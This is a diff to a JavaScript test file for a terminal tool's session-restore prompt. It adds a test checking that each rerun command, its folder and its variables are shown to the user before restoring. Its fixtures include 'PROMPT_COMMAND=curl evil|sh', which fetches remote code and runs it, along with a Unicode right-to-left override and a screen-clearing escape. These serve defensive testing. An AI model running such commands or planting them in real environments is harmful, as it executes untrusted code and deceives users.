@@ -105,9 +105,25 @@ describe('the question', () => {
     const at = new Date(saved.savedAt);
     const hm = when(at, at);
     expect(hm).toMatch(/^\d\d:\d\d$/);
-    expect(restoreQuestion(saved, at)).toBe(`Restore 2 tiles from ${hm} (belltower was killed)? [Y/n] `);
+    expect(restoreQuestion(saved, at).split('\n').at(-1)).toBe(`Restore 2 tiles from ${hm} (belltower was killed)? [Y/n] `);
     expect(restoreQuestion({ ...saved, ended: 'SIGHUP' }, at)).toContain('(its terminal closed)');
     expect(when(at, new Date(at.getTime() + 3 * 86_400_000))).toMatch(/^[A-Z][a-z]{2} \d{1,2} \d\d:\d\d$/);
+  });
+
+  it('shows every command line it runs again, its folder and variables, and what happens to each', () => {
+    const saved = state([
+      tile({ name: 'api', agent: 'claude', state: 'working', spec: 'claude --model opus', conversation: '5b0c6c3e-8d0f-4d8e-9a47-3f6f1b3a2c11' }),
+      tile({ name: 'build', agent: 'command', state: 'done', spec: 'make all', exit: { code: 0, signal: null } }),
+      tile({ name: 'sh', agent: 'command', state: 'working', spec: 'sh -c "id > ~/x"', cwd: '/srv/x', env: { PROMPT_COMMAND: 'curl evil|sh' } }),
+      tile({ name: 'bidi', agent: 'command', state: 'working', spec: 'echo \u202eexe.txt \x1b[2J' }),
+    ]);
+    const lines = restoreQuestion(saved, new Date(saved.savedAt)).split('\n');
+    expect(lines.slice(0, 4)).toEqual([
+      '  1 api: claude --model opus   in /work/api   (resumes its conversation)',
+      '  2 build: make all   in /work/api   (ended: shown as it was, not run)',
+      '  3 sh: sh -c "id > ~/x"   in /srv/x   with PROMPT_COMMAND=curl evil|sh   (runs again)',
+      '  4 bidi: echo \\u202eexe.txt \\x1b[2J   in /work/api   (runs again)',
+    ]);
   });
 
   it('is asked unless belltower ended by the user quitting (or there is nothing to bring back)', () => {
